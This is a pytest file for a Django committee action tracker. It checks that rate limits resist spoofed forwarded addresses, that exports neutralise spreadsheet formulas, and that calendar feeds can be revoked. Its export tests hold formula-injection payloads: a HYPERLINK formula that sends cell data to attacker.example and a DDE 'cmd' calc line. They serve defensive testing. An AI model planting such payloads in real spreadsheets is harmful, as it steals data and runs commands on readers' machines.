"""Every door keeps the same rules (issue 11): the rate limits count the real client, exports
never hand a spreadsheet a formula, a date nobody can plan is a 400 and not a 500, the API
cache never answers one reader with another's page, and a calendar address can be revoked."""

import csv
import datetime as dt
import io

import pytest
from django.core.cache import cache
from django.test import RequestFactory, override_settings
from openpyxl import load_workbook
from rest_framework.test import APIClient
from rest_framework.throttling import SimpleRateThrottle

from tests.site import page_world as support
from tests.test_settings import refusal, setting, start
from tracker.site.throttles import client_address

clock, sam, world = support.clock, support.sam, support.world

# --- Rate limits count the client, not what it claims in X-Forwarded-For ------------------


@pytest.fixture
def standing_clock(monkeypatch):
    """The configured rates (API_LOGIN_RATE is 10/minute) with the clock standing still, and
    the anonymous API limited to 3 a minute."""
    monkeypatch.setattr(
        SimpleRateThrottle,
        "THROTTLE_RATES",
        {**SimpleRateThrottle.THROTTLE_RATES, "anon": "3/minute"},
    )
    monkeypatch.setattr(SimpleRateThrottle, "timer", lambda self: 1_800_000_000.0)
    cache.clear()
    yield
    cache.clear()


def forwarded(number: int) -> str:
    return f"198.51.100.{number}"


@pytest.mark.parametrize("path", ["/accounts/login/", "/admin/login/"])
def test_a_new_forwarded_address_per_guess_does_not_reset_the_sign_in_limit(
    client, dev, standing_clock, path
):
    wrong = {"username": "dev", "password": "not-his-password"}
    answers = [
        client.post(path, wrong, HTTP_X_FORWARDED_FOR=forwarded(n)).status_code for n in range(12)
    ]
    assert answers == [200] * 10 + [429] * 2


def test_a_new_forwarded_address_per_guess_does_not_reset_the_token_limit(dev, standing_clock):
    public = APIClient()
    answers = [
        public.post(
            "/api/auth/token/",
            {"username": "dev", "password": f"guess-{n}"},
            format="json",
            HTTP_X_FORWARDED_FOR=forwarded(n),
        ).status_code
        for n in range(12)
    ]
    assert answers == [400] * 10 + [429] * 2


def test_a_new_forwarded_address_per_request_does_not_reset_the_anonymous_api_limit(
    db, standing_clock
):
    public = APIClient()
    answers = [
        public.get("/api/committees/", HTTP_X_FORWARDED_FOR=forwarded(n)).status_code
        for n in range(4)
    ]
    assert answers == [200, 200, 200, 429]


@override_settings(TRUSTED_PROXY_COUNT=1)
def test_behind_one_trusted_proxy_each_forwarded_client_is_counted_apart(
    client, dev, standing_clock
):
    wrong = {"username": "dev", "password": "not-his-password"}
    # The proxy appends the address it saw; whatever the client wrote before it is ignored.
    for n in range(10):
        spoofed = f"{forwarded(n)}, 203.0.113.7"
        assert (
            client.post("/accounts/login/", wrong, HTTP_X_FORWARDED_FOR=spoofed).status_code == 200
        )
    assert (
        client.post("/accounts/login/", wrong, HTTP_X_FORWARDED_FOR="203.0.113.7").status_code
        == 429
    )
    signed_in = client.post(
        "/accounts/login/",
        {"username": "dev", "password": "dev-pass"},
        HTTP_X_FORWARDED_FOR="203.0.113.8",
    )
    assert signed_in.status_code == 302


def test_it_ignores_forwarded_addresses_without_a_trusted_proxy():
    request = RequestFactory().get(
        "/", REMOTE_ADDR="10.0.0.5", HTTP_X_FORWARDED_FOR="198.51.100.1, 203.0.113.7"
    )
    assert client_address(request) == "10.0.0.5"


@pytest.mark.parametrize(
    ("proxies", "expected"),
    [(1, "203.0.113.9"), (2, "203.0.113.7"), (3, "198.51.100.1"), (4, "198.51.100.1")],
)
def test_behind_n_trusted_proxies_it_takes_the_nth_forwarded_address_from_the_right(
    proxies, expected
):
    request = RequestFactory().get(
        "/",
        REMOTE_ADDR="10.0.0.5",
        HTTP_X_FORWARDED_FOR="198.51.100.1, 203.0.113.7,203.0.113.9",
    )
    with override_settings(TRUSTED_PROXY_COUNT=proxies):
        assert client_address(request) == expected


@override_settings(TRUSTED_PROXY_COUNT=2)
def test_behind_trusted_proxies_a_request_without_forwarded_addresses_is_its_own_address():
    assert client_address(RequestFactory().get("/", REMOTE_ADDR="10.0.0.5")) == "10.0.0.5"


def test_the_trusted_proxy_count_defaults_to_zero_and_sets_rest_frameworks_too(tmp_path):
    env = {"DEBUG": "1", "DATABASE_URL": f"sqlite:///{tmp_path / 'db.sqlite3'}"}
    assert setting("TRUSTED_PROXY_COUNT", **env) == "0"
    assert setting("REST_FRAMEWORK['NUM_PROXIES']", **env) == "0"
    assert setting("TRUSTED_PROXY_COUNT", **env, TRUSTED_PROXY_COUNT="2") == "2"
    assert setting("REST_FRAMEWORK['NUM_PROXIES']", **env, TRUSTED_PROXY_COUNT="2") == "2"


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("one", "TRUSTED_PROXY_COUNT must be a whole number, not 'one'"),
        ("-1", "TRUSTED_PROXY_COUNT must be at least 0, not -1"),
    ],
)
def test_an_unusable_trusted_proxy_count_stops_the_start(tmp_path, value, message):
    env = {"DEBUG": "1", "DATABASE_URL": f"sqlite:///{tmp_path / 'db.sqlite3'}"}
    result = start("-c", "import django; django.setup()", **env, TRUSTED_PROXY_COUNT=value)
    assert refusal(result) == f"django.core.exceptions.ImproperlyConfigured: {message}"


# --- Exports hand a spreadsheet text, never a formula ----------------------------------------

HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&D4,"x")'


@pytest.fixture
def booby_trapped(world, dev):
    """Dev's progress update on the March figures reads as a formula to a spreadsheet."""
    from actions.progress import record_update

    record_update(world["figures"], text=HYPERLINK, rag="AMBER", by=dev.user)
    return world


def tracker_row(rows, reference):
    return next(row for row in rows if row[0] == reference)


def test_the_csv_export_writes_a_formula_like_update_as_quoted_text(client, booby_trapped):
    response = client.get("/committees/childrens-services/tracker.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = tracker_row(rows, "CS (17/18) A02")
    assert row[8] == "'" + HYPERLINK
    assert row[9] == "2018-01-22"  # dates we write ourselves are untouched


def test_the_xlsx_export_writes_a_formula_like_update_as_a_string_cell(client, booby_trapped):
    response = client.get("/committees/childrens-services/tracker.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    update = sheet["I4"]
    assert sheet["A4"].value == "CS (17/18) A02"
    assert update.value == "'" + HYPERLINK
    assert update.data_type == "s"
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    # Numbers and dates we write ourselves stay numbers and dates.
    assert sheet["B4"].value == dt.datetime(2017, 12, 12) and sheet["B4"].is_date
    assert sheet["J4"].value == dt.datetime(2018, 1, 22) and sheet["J4"].is_date
    assert sheet["K3"].value == 12 and sheet["K3"].data_type == "n"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_export_neutralises_text_a_spreadsheet_would_interpret(client, world, start):
    action = world["figures"]
    action.title = f"{start}1+1 cmd|' /C calc'!A0"
    action.save()
    expected = f"'{start}1+1 cmd|' /C calc'!A0"
    rows = list(
        csv.reader(
            io.StringIO(
                client.get("/committees/childrens-services/tracker.csv").content.decode(
                    "utf-8-sig"
                ),
                newline="",
            )
        )
    )
    assert tracker_row(rows, "CS (17/18) A02")[3] == expected
    sheet = load_workbook(
        io.BytesIO(client.get("/committees/childrens-services/tracker.xlsx").content)
    ).active
    # XML reads a carriage return back as a line feed; what matters is the leading quote.
    assert sheet["D4"].value == expected.replace("\r", "\n") and sheet["D4"].data_type == "s"


def test_ordinary_text_is_exported_as_written(client, world):
    rows = list(
        csv.reader(
            io.StringIO(
                client.get("/committees/childrens-services/tracker.csv").content.decode("utf-8-sig")
            )
        )
    )
    assert tracker_row(rows, "CS (17/18) A02")[3:6] == [
        "Report recruitment figures for foster carers",
        "Dev Okafor",
        "Meeting of 2018-03-13",
    ]


# --- A date nobody can plan is a 400 naming the field, never a 500 ------------------------

BEYOND = "Give a date no later than 22 January 2118: the tracker plans at most 100 years ahead."


@pytest.fixture
def officer_api(clock, priya):
    """Priya's API client on Monday 22 January 2018."""
    api = APIClient()
    api.force_authenticate(priya.user)
    return api


@pytest.fixture
def recommendation(december_item):
    from actions.models import Resolution

    return Resolution.objects.create(
        agenda_item=december_item,
        number="1",
        text="That the Cabinet fund two more placement support workers.",
        kind=Resolution.Kind.RECOMMENDATION,
    )


@pytest.mark.parametrize("resource", ["actions", "meetings", "resolutions", "agenda-items"])
def test_municipal_year_0000_is_a_400_naming_the_filter(officer_api, committee, resource):
    answer = officer_api.get(f"/api/{resource}/?municipal_year=0000")
    assert answer.status_code == 400
    assert answer.json() == {
        "municipal_year": [
            "Give a municipal year as 2017/18 (or its first year, 2017), not '0000'."
        ]
    }


@pytest.mark.parametrize(
    ("query", "references"),
    [
        ("due_before=9999-12-31", ["CS (17/18) A01"]),
        ("due_after=9999-12-31", []),
        ("due_before=0001-01-01", []),
        ("due_after=0001-01-01", ["CS (17/18) A01"]),
    ],
)
def test_due_date_filters_at_the_ends_of_the_calendar_answer_plainly(
    officer_api, overdue_action, query, references
):
    answer = officer_api.get(f"/api/actions/?{query}")
    assert answer.status_code == 200
    assert [row["reference"] for row in answer.json()["results"]] == references


@pytest.mark.parametrize(
    "address",
    [
        "/api/executive-responses/?due_before=9999-12-31&due_after=0001-01-01",
        "/api/meetings/?date_after=0001-01-01&date_before=9999-12-31",
        "/api/action-updates/?as_of_after=0001-01-01&as_of_before=9999-12-31",
        "/api/deferrals/?created_after=0001-01-01&created_before=9999-12-31",
        "/api/reminders/?for_after=0001-01-01&for_before=9999-12-31",
    ],
)
def test_other_date_filters_at_the_ends_of_the_calendar_answer_plainly(
    officer_api, december, address
):
    assert officer_api.get(address).status_code == 200


def test_a_due_date_beyond_the_planning_horizon_is_a_400_naming_the_field(
    officer_api, overdue_action
):
    answer = officer_api.patch(
        f"/api/actions/{overdue_action.pk}/", {"due_date": "9999-12-31"}, format="json"
    )
    assert answer.status_code == 400
    assert answer.json() == {"due_date": [BEYOND]}
    overdue_action.refresh_from_db()
    assert overdue_action.due_date == dt.date(2018, 1, 10)


def test_a_due_date_on_the_planning_horizon_is_accepted(officer_api, overdue_action):
    answer = officer_api.patch(
        f"/api/actions/{overdue_action.pk}/", {"due_date": "2118-01-22"}, format="json"
    )
    assert answer.status_code == 200
    assert answer.json()["due_date"] == "2118-01-22"


def test_a_meeting_beyond_the_planning_horizon_is_a_400_naming_the_field(officer_api, committee):
    from committees.models import Meeting

    for day in ("9999-12-31", "2118-01-23"):
        answer = officer_api.post(
            "/api/meetings/", {"committee": committee.pk, "date": day}, format="json"
        )
        assert answer.status_code == 400
        assert answer.json() == {"date": [BEYOND]}
    assert not Meeting.objects.exists()


def test_executive_response_dates_beyond_the_planning_horizon_are_a_400(
    officer_api, recommendation
):
    from actions.models import ExecutiveResponse

    refused = officer_api.post(
        "/api/executive-responses/",
        {"resolution": recommendation.pk, "referred_on": "9999-12-31"},
        format="json",
    )
    assert refused.status_code == 400
    assert refused.json() == {"referred_on": [BEYOND]}
    assert not ExecutiveResponse.objects.exists()
    referred = officer_api.post(
        "/api/executive-responses/",
        {"resolution": recommendation.pk, "referred_on": "2018-01-15"},
        format="json",
    )
    assert referred.status_code == 201
    address = f"/api/executive-responses/{referred.json()['id']}/"
    implemented = officer_api.patch(
        address,
        {"implementation": "implemented", "implemented_on": "9999-12-31"},
        format="json",
    )
    assert implemented.status_code == 400
    assert implemented.json() == {"implemented_on": [BEYOND]}
    answered = officer_api.post(
        address + "respond/",
        {"decision": "accepted", "responded_on": "9999-12-31"},
        format="json",
    )
    assert answered.status_code == 400
    assert answered.json() == {"responded_on": [BEYOND]}


def test_an_update_dated_far_in_the_future_is_a_400_naming_the_field(officer_api, overdue_action):
    answer = officer_api.post(
        "/api/action-updates/",
        {"action": overdue_action.pk, "text": "Chased.", "rag": "AMBER", "as_of": "9999-12-31"},
        format="json",
    )
    assert answer.status_code == 400
    assert answer.json() == {"as_of": ["The reporting date cannot be in the future."]}


def test_the_admin_refuses_a_meeting_beyond_the_planning_horizon(client, clock, priya, committee):
    from committees.models import Meeting

    priya.user.is_superuser = True
    priya.user.save()
    client.force_login(priya.user)
    answer = client.post(
        "/admin/committees/meeting/add/",
        {"committee": committee.pk, "date": "9999-12-31", "status": "scheduled"},
    )
    assert answer.status_code == 200
    assert BEYOND in answer.content.decode()
    assert not Meeting.objects.exists()


def test_a_membership_dated_far_ahead_is_not_a_server_error(officer_api, committee, dev):
    answer = officer_api.post(
        "/api/memberships/",
        {
            "committee": committee.pk,
            "person": dev.pk,
            "role": "member",
            "start_date": "2018-01-22",
            "end_date": "9999-12-31",
        },
        format="json",
    )
    assert answer.status_code == 201


FAR_FUTURE_MINUTES = """Minutes of a meeting of the Children's Services Overview and Scrutiny \
Committee held at the Civic Offices on Tuesday 12 December 2017 at 7.00 pm

Item 1 Placement Stability Update

RESOLVED \u2013 That the update be noted.
"""


def test_the_importer_refuses_minutes_dated_beyond_the_planning_horizon(clock, committee, priya):
    from committees.models import Meeting
    from tracker.importer.parsing import propose
    from tracker.importer.saving import SavingError, save_proposal

    proposal = propose(FAR_FUTURE_MINUTES, committee=committee)
    # The parser reads only plausible years; the rule still stands before the database.
    assert proposal.meetings[0].date == "2017-12-12"
    proposal.meetings[0].date = "9999-12-31"
    with pytest.raises(SavingError) as refused:
        save_proposal(proposal, committee, by=priya.user)
    assert f"date: {BEYOND}" in str(refused.value)
    assert not Meeting.objects.exists()


# --- The API cache never answers one reader with another's page -----------------------------


@pytest.fixture
def caching(settings, db):
    from tracker.api.data_version import DataVersion

    settings.API_CACHE_SECONDS = 300
    DataVersion.objects.get_or_create(pk=1)
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def omar(db):
    """A second democratic services officer (staff)."""
    from django.contrib.auth import get_user_model

    from committees.models import Person

    user = get_user_model().objects.create_user(
        "omar", "omar.haddad@riverside.example", "omar-pass", is_staff=True
    )
    return Person.objects.create(name="Omar Haddad", email=user.email, user=user)


@pytest.fixture
def omars_action(committee, december_item, omar):
    from actions.models import Action

    return Action.objects.create(
        committee=committee,
        agenda_item=december_item,
        title="Circulate the revised terms of reference",
        owner=omar,
        due_date=dt.date(2018, 1, 31),
    )


def signed_in(person) -> APIClient:
    api = APIClient()
    api.force_login(person.user)
    return api


def test_each_staff_member_reads_their_own_actions_with_owner_me(
    caching, overdue_action, omars_action, priya, omar
):
    def mine(person):
        answer = signed_in(person).get("/api/actions/?owner=me")
        assert answer.status_code == 200
        return [row["reference"] for row in answer.json()["results"]]

    assert mine(priya) == []
    assert mine(omar) == ["CS (17/18) A02"]
    # Asked again, each is answered from their own cached page.
    assert mine(priya) == []
    assert mine(omar) == ["CS (17/18) A02"]


def test_owner_me_with_other_filters_is_still_the_readers_own(
    caching, overdue_action, omars_action, priya, omar
):
    address = "/api/actions/?status=open&owner=me&ordering=due_date"
    assert signed_in(omar).get(address).json()["count"] == 1
    assert signed_in(priya).get(address).json()["count"] == 0


def test_staff_still_share_cached_answers_that_do_not_depend_on_who_asks(
    caching, overdue_action, priya, omar, django_assert_num_queries
):
    first = signed_in(priya).get("/api/actions/")
    omars = signed_in(omar)
    # The session, the user and the data version; no action queries.
    with django_assert_num_queries(3):
        again = omars.get("/api/actions/")
    assert again.json() == first.json()


# --- A person's calendar address can be revoked without changing SECRET_KEY -----------------


def feed_address(page) -> str:
    """The calendar address shown on My work, as a path."""
    return page.context["feed_url"].removeprefix("http://testserver")


def test_a_person_resets_their_calendar_address_and_the_old_one_stops_working(
    client, clock, overdue_action, dev
):
    client.force_login(dev.user)
    old = feed_address(client.get("/my-work/"))
    assert client.get(old).status_code == 200
    reset = client.post("/my-work/calendar-address/reset/")
    assert reset.status_code == 302 and reset["Location"] == "/my-work/#calendar"
    page = client.get("/my-work/")
    assert (
        "Your calendar address has been reset: the old address no longer works. Subscribe to "
        "the new address below." in page.content.decode()
    )
    new = feed_address(page)
    assert new != old
    assert client.get(old).status_code == 404
    feed = client.get(new)
    assert feed.status_code == 200
    assert "CS (17/18) A01" in feed.content.decode()
    # A second reset revokes the second address too.
    client.post("/my-work/calendar-address/reset/")
    assert client.get(new).status_code == 404
    assert client.get(feed_address(client.get("/my-work/"))).status_code == 200


def test_my_work_offers_the_reset_and_says_the_old_address_stops_working(client, clock, dev):
    client.force_login(dev.user)
    html = client.get("/my-work/").content.decode()
    button = '<button type="submit" class="button button--secondary">Reset my calendar address'
    assert '<form method="post" action="/my-work/calendar-address/reset/">' in html
    assert button + "</button>" in html
    assert (
        "If anyone else may have your address, reset it: the old address stops working at once "
        "and My work shows a new one, which you subscribe to instead." in html
    )


def test_a_calendar_address_is_reset_only_by_a_signed_in_post(client, clock, dev):
    before = feed_address_of(dev)
    anonymous = client.post("/my-work/calendar-address/reset/")
    assert anonymous.status_code == 302
    assert anonymous["Location"].startswith("/accounts/login/")
    client.force_login(dev.user)
    assert client.get("/my-work/calendar-address/reset/").status_code == 405
    assert feed_address_of(dev) == before
    assert client.get(before).status_code == 200


def feed_address_of(person) -> str:
    from committees.models import Person
    from tracker.site.calendar_feeds import person_feed_url

    return person_feed_url(Person.objects.get(pk=person.pk))


def test_an_address_given_out_before_resets_existed_works_until_the_first_reset(client, clock, dev):
    from django.core import signing

    from tracker.site.calendar_feeds import FEED_SALT

    given_out = f"/calendar/{signing.dumps({'person': dev.pk}, salt=FEED_SALT)}.ics"
    assert client.get(given_out).status_code == 200
    shown = feed_address_of(dev)
    assert client.get(shown).status_code == 200
    dev.reset_calendar_address()
    assert client.get(given_out).status_code == 404
    assert client.get(shown).status_code == 404


def test_the_calendar_address_is_the_same_every_time_it_is_shown(clock, dev, monkeypatch):
    import time

    first = feed_address_of(dev)
    later = time.time() + 3600
    monkeypatch.setattr(time, "time", lambda: later)
    assert feed_address_of(dev) == first


def test_an_officer_resets_peoples_calendar_addresses_from_the_person_admin(
    client, clock, priya, dev, alan
):
    old_dev, old_alan = feed_address_of(dev), feed_address_of(alan)
    priya.user.is_superuser = True
    priya.user.save()
    client.force_login(priya.user)
    answer = client.post(
        "/admin/committees/person/",
        {"action": "reset_calendar_addresses", "_selected_action": [dev.pk]},
        follow=True,
    )
    assert answer.status_code == 200
    assert (
        "Reset the calendar address of 1 person: their old address no longer works."
        in answer.content.decode()
    )
    assert client.get(old_dev).status_code == 404
    assert client.get(feed_address_of(dev)).status_code == 200
    assert client.get(old_alan).status_code == 200  # not selected, not reset
